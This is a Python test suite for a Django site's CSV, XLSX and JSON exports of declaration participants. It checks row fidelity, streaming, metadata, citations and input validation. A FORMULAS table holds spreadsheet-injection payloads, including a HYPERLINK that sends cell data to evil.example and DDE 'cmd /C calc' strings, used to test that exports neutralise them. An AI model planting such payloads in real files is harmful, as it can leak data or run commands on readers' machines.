"""A report writer downloads the list as CSV, XLSX or JSON and gets exactly its rows."""

import datetime
import html
import io
import json
import re
from urllib.parse import urlencode

import openpyxl
import pytest
from django.db import connection
from django.http import StreamingHttpResponse
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone
from openpyxl.utils import get_column_letter

from data import exports
from signatories.models import Participant
from tests.data.exported import (
    LIST,
    about,
    body,
    csv_rows,
    download,
    html_slugs,
    records,
    slugs,
    workbook,
)
from tests.data.factories import make_endorsers
from tests.factories import EndorsementFactory, ParticipantFactory

pytestmark = pytest.mark.django_db

FORMATS = ["csv", "xlsx", "json"]
# Parameter sets a report writer would use; each export must list what the page lists.
VIEWS = [
    "",
    "region=150",
    "region=150&status=endorsed&sort=-endorsed_on",
    "status=none&region=002",
    "status=disputed&status=withdrawn",
    "q=cote",
    "forum=g7&forum=oecd",
    "entity_type=limited_recognition&status=none&status=endorsed",
    "as_of=2022-05-01&region=150",
    "endorsed_after=2022-04-29&endorsed_before=2022-11-01",
    "sort=region&region=019",
    "declaration=dfi&sort=-name&status=endorsed&status=none",
]


@pytest.mark.parametrize("params", VIEWS)
@pytest.mark.parametrize("fmt", FORMATS)
def test_export_has_exactly_the_rows_of_the_list(client, fmt, params):
    expected = html_slugs(client, params)
    assert expected, "every view in the table shows some rows"
    assert slugs(fmt, body(download(client, fmt, params))) == expected


@pytest.mark.parametrize("fmt", ["csv", "json"])
def test_exports_stream(client, fmt):
    """The first bytes go out before a single row is read from the database."""
    response = client.get(reverse(f"data:export-{fmt}"))
    assert isinstance(response, StreamingHttpResponse)
    with CaptureQueriesContext(connection) as queries:
        first = next(iter(response.streaming_content))
    assert first and len(queries) == 0


def test_xlsx_goes_out_in_chunks_once_written(client, monkeypatch):
    """openpyxl zips the workbook once every row is in; the file then leaves in chunks."""
    monkeypatch.setattr(exports, "XLSX_CHUNK_SIZE", 1000)
    response = client.get(reverse("data:export-xlsx"))
    assert isinstance(response, StreamingHttpResponse)
    chunks = iter(response.streaming_content)
    first = next(chunks)
    with CaptureQueriesContext(connection) as queries:
        rest = list(chunks)
    assert len(queries) == 0
    assert rest and all(0 < len(chunk) <= 1000 for chunk in [first, *rest])
    assert workbook(first + b"".join(rest)).sheetnames == ["Participants", "About"]


def test_csv_is_utf8_with_a_byte_order_mark_and_one_row_per_participant(client):
    data = body(download(client, "csv", "q=cote"))
    assert data.startswith(b"\xef\xbb\xbfName,ISO alpha-2,ISO alpha-3,Entity type,Region,")
    assert b"\r\n" in data
    [row] = csv_rows(data)
    assert row["Name"] == "Côte d'Ivoire"
    assert list(row) == exports.HEADINGS


def test_csv_row_says_what_the_list_says(client):
    [kenya] = csv_rows(body(download(client, "csv", "q=kenya")))
    assert kenya["ISO alpha-2"] == "KE" and kenya["ISO alpha-3"] == "KEN"
    assert kenya["Entity type"] == "State (UN member or observer)"
    assert (kenya["Region"], kenya["Sub-region"]) == ("Africa", "Eastern Africa")
    assert kenya["Status"] == "Disputed"
    assert kenya["Endorsed on"] == "2022-04-28"
    assert kenya["Date precision"] == "Exact day"
    assert kenya["Withdrawn on"] == ""
    assert kenya["Disputed on"] == "2022-04-29"
    assert kenya["Event"] == "Launch of the Declaration"
    assert "https://www.kbc.co.ke/" not in kenya["Sources"]  # the dispute's, not the listing's
    assert kenya["Sources"].count(" ; ") == 1
    assert kenya["Support"] == "2 independent sources"
    assert kenya["Status sources"].startswith("https://www.kbc.co.ke/")
    assert kenya["Note"].startswith("Listed at the launch")
    assert kenya["Forums"] == "FOC, UN, WTO"
    assert kenya["Page"] == "http://testserver/participants/kenya/"


def test_an_endorsement_after_the_as_of_day_is_left_out_of_the_row(client):
    [norway] = csv_rows(body(download(client, "csv", "q=norway&as_of=2022-05-01")))
    assert norway["Status"] == "Not endorsed"
    assert norway["Endorsed on"] == norway["Event"] == norway["Sources"] == ""


def test_supranational_participant_has_no_codes_or_region(client):
    [commission] = records("json", body(download(client, "json", "q=european")))
    assert commission["entity_type"] == "supranational"
    assert commission["iso_alpha2"] is None and commission["region"] is None


def test_xlsx_has_real_dates_a_frozen_filtered_header_and_widths(client):
    data = body(download(client, "xlsx", "region=150&status=endorsed"))
    book = workbook(data)
    assert book.sheetnames == ["Participants", "About"]
    sheet = book["Participants"]
    rows = sheet.max_row - 1
    assert rows == len(html_slugs(client, "region=150&status=endorsed"))
    assert [cell.value for cell in sheet[1]] == exports.HEADINGS
    assert all(cell.font.b for cell in sheet[1])
    assert sheet.freeze_panes == "A2"
    last = get_column_letter(len(exports.HEADINGS))
    assert sheet.auto_filter.ref == f"A1:{last}{rows + 1}"
    assert sheet.column_dimensions["A"].width >= 25
    sources = get_column_letter(exports.HEADINGS.index("Sources") + 1)
    assert sheet.column_dimensions[sources].width >= 50
    endorsed_on = sheet.cell(row=2, column=exports.HEADINGS.index("Endorsed on") + 1)
    assert endorsed_on.is_date and endorsed_on.value == datetime.datetime(2022, 4, 28)


def test_xlsx_about_sheet_lets_a_report_cite_the_export(client, dfi):
    params = "region=150&status=endorsed&as_of=2022-11-30"
    before = timezone.now().replace(microsecond=0, tzinfo=None)
    facts = about(body(download(client, "xlsx", params)))
    assert facts["Declaration"] == f"{dfi.title} (DFI)"
    assert facts["Declaration page"] == "http://testserver/declarations/dfi/"
    assert facts["Filters applied"] == "in Europe (150); status: endorsed"
    assert facts["Record as of (end of day)"] == datetime.datetime(2022, 11, 30)
    assert facts["Rows"] == len(html_slugs(client, params)) == 41
    assert facts["The list on the site"] == f"http://testserver/participants/?{params}"
    assert facts["This export"] == f"http://testserver/participants/export.xlsx?{params}"
    assert before <= facts["Generated (UTC)"] <= before + datetime.timedelta(minutes=1)
    assert "apostrophe" in facts["Formulas"]


def test_xlsx_about_sheet_names_the_default_selection(client):
    facts = about(body(download(client, "xlsx")))
    assert facts["Filters applied"] == exports.ENDORSERS_ONLY
    assert facts["Sorted by"] == "Name, A to Z"


def test_json_has_the_same_records_and_metadata(client, dfi):
    params = "region=154&sort=-endorsed_on"
    document = json.loads(body(download(client, "json", params)))
    meta = document["meta"]
    assert meta["rows"] == len(document["results"]) == len(html_slugs(client, params))
    assert meta["declaration"] == f"{dfi.title} (DFI)"
    assert meta["filters"] == [exports.ENDORSERS_ONLY, "in Northern Europe (154)"]
    assert meta["as_of"] == timezone.localdate().isoformat()
    assert meta["sort"] == "Endorsed, latest first"
    assert meta["url"] == f"http://testserver/participants/?{params}"
    assert datetime.datetime.fromisoformat(meta["generated_at"]).tzinfo is not None
    norway = document["results"][0]
    assert norway["name"] == "Norway" and norway["endorsed_on"] == "2022-11-02"
    assert norway["status"] == "endorsed" and norway["subregion_code"] == "154"
    assert set(norway) == {
        "name", "slug", "url", "iso_alpha2", "iso_alpha3", "entity_type", "region_code",
        "region", "subregion_code", "subregion", "status", "endorsed_on", "date_precision",
        "withdrawn_on", "disputed_on", "event", "sources", "support", "status_sources", "note",
        "forums",
    }  # fmt: skip
    assert norway["support"] == "2 independent sources"
    assert norway["status_sources"] == [] and norway["disputed_on"] is None


def test_xlsx_about_and_json_meta_agree(client):
    params = "region=002&status=none"
    facts = about(body(download(client, "xlsx", params)))
    meta = json.loads(body(download(client, "json", params)))["meta"]
    assert facts["Rows"] == meta["rows"]
    assert facts["Filters applied"] == "; ".join(meta["filters"])
    assert facts["Record as of (end of day)"].date().isoformat() == meta["as_of"]


@pytest.mark.parametrize(
    ("params", "name"),
    [
        ("region=150&as_of=2022-11-30", "dfi-participants-europe-2022-11-30.xlsx"),
        (
            "region=011&status=none&as_of=2023-01-31",
            "dfi-participants-western-africa-not-endorsed-2023-01-31.xlsx",
        ),
        (
            "forum=g7&entity_type=limited_recognition&endorsed_after=2022-05-01&as_of=2024-02-29",
            "dfi-participants-limited-recognition-g7-from-2022-05-01-2024-02-29.xlsx",
        ),
        (
            urlencode({"q": "Côte d'Iv", "as_of": "2022-04-28"}),
            "dfi-participants-name-cote-div-2022-04-28.xlsx",
        ),
    ],
)
def test_file_names_say_what_is_inside(client, params, name):
    response = download(client, "xlsx", params)
    assert response["Content-Disposition"] == f'attachment; filename="{name}"'


def test_content_types(client):
    assert download(client, "csv")["Content-Type"] == "text/csv; charset=utf-8"
    assert download(client, "json")["Content-Type"] == "application/json"
    assert download(client, "xlsx")["Content-Type"] == (
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    )


FORMULAS = {
    "equals": '=HYPERLINK("https://evil.example/?"&A1,"Click")',
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+2",
    "carriage-return": "\r=1+2",
}


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
@pytest.mark.parametrize("payload", FORMULAS.values(), ids=FORMULAS.keys())
def test_formula_at_the_start_of_a_name_or_note_is_neutralised(client, dfi, fmt, payload):
    participant = ParticipantFactory(name=payload)
    EndorsementFactory(participant=participant, declaration=dfi, note=payload)
    rows = records(fmt, body(download(client, fmt)))
    [row] = [row for row in rows if row["Page"].endswith(f"/{participant.slug}/")]
    expected = "'" + payload
    if fmt == "xlsx":  # openpyxl writes a carriage return as is, and XML reads it as a line feed
        expected = expected.replace("\r", "\n")
    assert row["Name"] == expected
    assert row["Note"] == expected


def test_json_keeps_text_as_it_is(client, dfi):
    participant = ParticipantFactory(name="=1+2")
    EndorsementFactory(participant=participant, declaration=dfi, note="@note")
    rows = records("json", body(download(client, "json", urlencode({"q": "=1+2"}))))
    assert [(row["name"], row["note"]) for row in rows] == [("=1+2", "@note")]


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_ordinary_text_is_left_alone(client, dfi, fmt):
    participant = ParticipantFactory(name="Saint-Martin (test)")
    EndorsementFactory(participant=participant, declaration=dfi, note="Note - with a dash")
    rows = records(fmt, body(download(client, fmt, "q=saint-martin")))
    assert [(row["Name"], row["Note"]) for row in rows] == [
        ("Saint-Martin (test)", "Note - with a dash")
    ]


def test_xlsx_keeps_text_xml_cannot_carry_out_and_escapes_markup(client, dfi):
    participant = ParticipantFactory(name="Bell\x07 and <b>bold</b> & more")
    EndorsementFactory(participant=participant, declaration=dfi, note="a\x07b")
    [row] = records("xlsx", body(download(client, "xlsx", "q=bold")))
    assert row["Name"] == "Bell and <b>bold</b> & more"
    assert row["Note"] == "ab"


def test_xlsx_cells_hold_any_text_and_text_stays_text(client, dfi):
    """Control characters and text past Excel's 32,767 characters still make a valid file, and
    nothing becomes a formula or an error code: every text cell is a string in the file."""
    # Every character XML cannot carry but NUL, which PostgreSQL cannot store (see the next test).
    control = "".join(map(chr, [*range(1, 9), 0x0B, 0x0C, *range(0x0E, 0x20)]))
    note = "n" * 40_000
    hidden = ParticipantFactory(name=f"Hidden {control}\ufffe\uffff end")
    EndorsementFactory(participant=hidden, declaration=dfi, note=f"\x1f{note}")
    formula = ParticipantFactory(name="\x07=1+2 formula")
    EndorsementFactory(participant=formula, declaration=dfi, note="#N/A")
    data = body(download(client, "xlsx", "q=hidden"))
    sheet = workbook(data)["Participants"]
    name, note_cell = sheet["A2"], sheet.cell(row=2, column=exports.HEADINGS.index("Note") + 1)
    assert name.value == "Hidden  end" and name.data_type == "s"
    assert note_cell.value == note[: exports.XLSX_MAX_CELL_CHARS] and note_cell.data_type == "s"
    sheet = workbook(body(download(client, "xlsx", "q=formula")))["Participants"]
    name, note_cell = sheet["A2"], sheet.cell(row=2, column=exports.HEADINGS.index("Note") + 1)
    assert name.value == "'=1+2 formula" and name.data_type == "s"
    assert note_cell.value == "#N/A" and note_cell.data_type == "s"


def test_xlsx_text_starting_with_equals_is_written_as_text():
    """openpyxl takes a string starting with "=" for a formula; the writer keeps it text."""
    book = openpyxl.Workbook(write_only=True)
    sheet = book.create_sheet("Participants")
    values = ["=1+2", "#REF!", "\x00=SUM(A1)", "a\x00b"]
    sheet.append([exports._xlsx_cell(sheet, value) for value in values])
    file = io.BytesIO()
    book.save(file)
    [cells] = workbook(file.getvalue())["Participants"].iter_rows()
    assert [cell.value for cell in cells] == ["'=1+2", "#REF!", "'=SUM(A1)", "ab"]
    assert {cell.data_type for cell in cells} == {"s"}


BAD_INPUT = {
    "unknown-region": ({"region": "999"}, "region"),
    "region-not-a-code": ({"region": "Europe"}, "region"),
    "impossible-date": ({"as_of": "2022-02-30"}, "as_of"),
    "not-a-date": ({"endorsed_after": "yesterday"}, "endorsed_after"),
    "dates-reversed": (
        {"endorsed_after": "2022-12-01", "endorsed_before": "2022-01-01"},
        "endorsed_before",
    ),
    "10-kB-name": ({"q": "x" * 10_000}, "q"),
    "10-kB-region": ({"region": "1" * 10_000}, "region"),
    "nul-byte-in-name": ({"q": "Nor\x00way"}, "q"),
    "nul-byte-in-region": ({"region": "15\x00"}, "region"),
    "nul-byte-in-declaration": ({"declaration": "df\x00i"}, "declaration"),
    "unknown-status": ({"status": "maybe"}, "status"),
    "unknown-forum": ({"forum": "nato"}, "forum"),
    "unknown-declaration": ({"declaration": "nope"}, "declaration"),
    "unknown-sort": ({"sort": "population"}, "sort"),
    "unknown-entity-type": ({"entity_type": "city"}, "entity_type"),
}


@pytest.mark.parametrize("fmt", FORMATS)
@pytest.mark.parametrize(("params", "field"), BAD_INPUT.values(), ids=BAD_INPUT.keys())
def test_bad_parameter_is_a_400_naming_it(client, fmt, params, field):
    response = client.get(reverse(f"data:export-{fmt}"), params)
    assert response.status_code == 400
    assert response["Content-Type"] == "text/plain; charset=utf-8"
    text = response.content.decode()
    assert f"Bad parameter “{field}”" in text
    assert len(text) < 1000


def test_unknown_parameters_are_ignored(client):
    assert slugs("csv", body(download(client, "csv", "region=154&utm_source=x"))) == html_slugs(
        client, "region=154"
    )


@pytest.mark.parametrize("fmt", FORMATS)
def test_an_empty_selection_is_a_valid_file_with_its_header(client, fmt):
    data = body(download(client, fmt, "q=no-such-participant"))
    assert records(fmt, data) == []
    if fmt == "json":
        assert json.loads(data)["meta"]["rows"] == 0
    if fmt == "xlsx":
        assert about(data)["Rows"] == 0
        assert [cell.value for cell in workbook(data)["Participants"][1]] == exports.HEADINGS
    if fmt == "csv":
        assert data.decode("utf-8-sig").splitlines() == [",".join(exports.HEADINGS)]


def test_head_gives_the_headers_without_reading_the_rows(client, django_assert_max_num_queries):
    with django_assert_max_num_queries(4):
        response = client.head(reverse("data:export-xlsx"), {"region": "150"})
    assert response.status_code == 200
    assert response["Content-Disposition"].startswith(
        'attachment; filename="dfi-participants-europe'
    )


def test_post_is_not_allowed(client):
    assert client.post(reverse("data:export-csv")).status_code == 405


def test_xlsx_says_so_when_rows_are_capped(client, monkeypatch):
    monkeypatch.setattr(exports, "XLSX_MAX_ROWS", 21)
    data = body(download(client, "xlsx"))
    total = len(html_slugs(client))
    assert workbook(data)["Participants"].max_row == 21
    facts = about(data)
    assert facts["Rows"] == total
    assert facts["Rows in this file"] == 20
    assert f"{total - 20} more rows match" in facts["Rows left out"]


def queries_for(client, fmt):
    with CaptureQueriesContext(connection) as queries:
        body(download(client, fmt, "region=150&forum=oecd"))
    return len(queries)


@pytest.mark.parametrize("fmt", FORMATS)
def test_queries_stay_flat_as_rows_grow(client, dfi, fmt, django_assert_max_num_queries):
    from declaration.models import Forum
    from signatories.models import Region

    oecd, europe = Forum.objects.get(slug="oecd"), Region.objects.get(code="150")
    make_endorsers(dfi, 5, forum=oecd, region=europe)
    few = queries_for(client, fmt)
    make_endorsers(dfi, 400, forum=oecd, region=europe)
    assert Participant.objects.in_region("150").count() > 400
    with django_assert_max_num_queries(few):
        many = body(download(client, fmt, "region=150&forum=oecd"))
    assert len(slugs(fmt, many)) == len(html_slugs(client, "region=150&forum=oecd")) > 405
    assert few <= 10


CITED = "region=150&status=endorsed&as_of=2022-04-30"
LICENCE = "Licence: CC BY 4.0 (https://creativecommons.org/licenses/by/4.0/)."


def citation_of(fmt, response):
    """The citation a download carries: in the About sheet, in the JSON's meta, or (a CSV
    holds only its table) the address in the Link header."""
    data = body(response)
    if fmt == "xlsx":
        return about(data)["Cite as"]
    if fmt == "json":
        return json.loads(data)["meta"]["citation"]
    return response["Link"]


@pytest.mark.parametrize("fmt", ["xlsx", "json"])
def test_a_download_carries_its_citation_with_the_day_its_address_and_the_licence(client, fmt):
    citation = citation_of(fmt, download(client, fmt, CITED))
    assert citation == (
        "Declaration tracker, “Endorsements of the Declaration for the Future of the Internet”, "
        f"record as of 30 April 2022, http://testserver/participants/export.{fmt}?{CITED}. "
        f"{LICENCE}"
    )


@pytest.mark.parametrize("fmt", FORMATS)
def test_a_download_links_its_citation_licence_and_dictionary_in_its_headers(client, fmt):
    links = download(client, fmt, CITED)["Link"].split(", ")
    assert f'<http://testserver/participants/export.{fmt}?{CITED}>; rel="cite-as"' in links
    assert '<https://creativecommons.org/licenses/by/4.0/>; rel="license"' in links
    dictionary = '<http://testserver/participants/datapackage.json>; rel="describedby"'
    assert (f'{dictionary}; type="application/json"' in links) == (fmt != "json")
    assert client.head(reverse(f"data:export-{fmt}"), {"as_of": "2022-04-30"})["Link"]


@pytest.mark.parametrize("fmt", FORMATS)
def test_a_download_without_a_day_is_cited_as_of_today_with_the_day_made_explicit(client, fmt):
    today = timezone.localdate()
    citation = citation_of(fmt, download(client, fmt, "region=150&q="))
    assert f"?region=150&as_of={today:%Y-%m-%d}" in citation
    if fmt != "csv":
        assert f"record as of {today:%-d %B %Y}, " in citation


def test_json_and_xlsx_keep_their_metadata_and_add_the_citation_last(client):
    meta = json.loads(body(download(client, "json", CITED)))["meta"]
    assert list(meta)[:10] == [
        "declaration", "declaration_url", "declaration_text_url", "filters", "as_of", "sort",
        "generated_at", "rows", "url", "export_url",
    ]  # fmt: skip
    assert meta["url"] == f"http://testserver/participants/?{CITED}"
    assert meta["licence"] == "CC BY 4.0"
    assert meta["licence_url"] == "https://creativecommons.org/licenses/by/4.0/"
    assert meta["data_dictionary"] == "http://testserver/participants/datapackage.json"
    facts = about(body(download(client, "xlsx", CITED)))
    assert facts["Licence"] == meta["licence"]
    assert facts["Data dictionary"] == meta["data_dictionary"]


def test_the_list_and_its_downloads_are_cited_in_the_same_words(client):
    cited_xlsx = citation_of("xlsx", download(client, "xlsx", CITED))
    page = html.unescape(re.sub(r"<[^>]+>", "", client.get(f"{LIST}?{CITED}").content.decode()))
    assert cited_xlsx.replace("/participants/export.xlsx?", "/participants/?") in page
